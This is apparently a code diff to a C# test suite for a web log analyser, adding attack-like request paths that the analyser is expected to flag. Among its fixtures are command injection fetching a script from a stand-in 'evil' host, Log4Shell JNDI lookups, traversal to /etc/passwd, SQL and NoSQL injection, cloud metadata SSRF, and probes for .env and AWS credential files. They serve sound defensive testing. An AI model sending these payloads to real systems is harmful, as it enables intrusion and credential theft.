@@ -14,6 +14,7 @@ public sealed class AttackTests
         ("command injection", "/x?a=$(curl%20http://evil/x.sh)"), ("command injection", "/index.php?s=/Index/think/app/invokefunction&function=call_user_func_array"),
         ("xss", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ("xss", "/s?q=%253Csvg%2520onload%253D1"), ("traversal", "/../../etc/passwd"), ("traversal", "/%2e%2e/%2e%2e/etc/passwd"),
         ("traversal", "/..%252f..%252fwin.ini"), ("traversal", "/a/..%5c..%5cboot.ini"), ("log4shell", "/?x=${jndi:ldap://evil/a}"), ("log4shell", "/?x=%24%7bjndi:${lower:l}dap://evil/a%7d"),
+        ("sql injection", "/p?id=1;DROP+TABLE+users"), ("sql injection", "/login?user[$ne]=x"), ("command injection", "/s?q=%7B%7B7*7%7D%7D"), ("command injection", "/%{(#_='multipart/form-data')}"),
         ("shell upload", "/uploads/c99.php?x=1+1"), ("scanner", "/.env"), ("scanner", "/.git/config"), ("scanner", "/%2eenv"), ("scanner", "/.aws/credentials"),
     ];
 
@@ -61,10 +62,15 @@ public sealed class AttackTests
         Assert.Equal(kind, Assert.Single(accumulator.ToReport([]).Panel("attacks").Rows).Name);
     }
 
-    [Fact]
-    public void A_program_that_is_not_there_is_a_door_that_was_tried()
+    [Theory]
+    [InlineData("/wp-login.php")]
+    [InlineData("/docker-compose.yml")]
+    [InlineData("/?author=1")]
+    [InlineData("/db.sql.gz")]
+    [InlineData("/proxy?url=http://169.254.169.254/latest/meta-data/iam")]
+    public void A_program_that_is_not_there_is_a_door_that_was_tried(string path)
     {
-        using var accumulator = Count(Line("10.0.0.1", "/wp-login.php", 404) + Line("10.0.0.2", "/wp-login.php", 200));
+        using var accumulator = Count(Line("10.0.0.1", path, 404) + Line("10.0.0.2", path, 200));
         Assert.Equal(1, Assert.Single(accumulator.ToReport([]).Panel("attacks").Rows).Hits);
     }
 
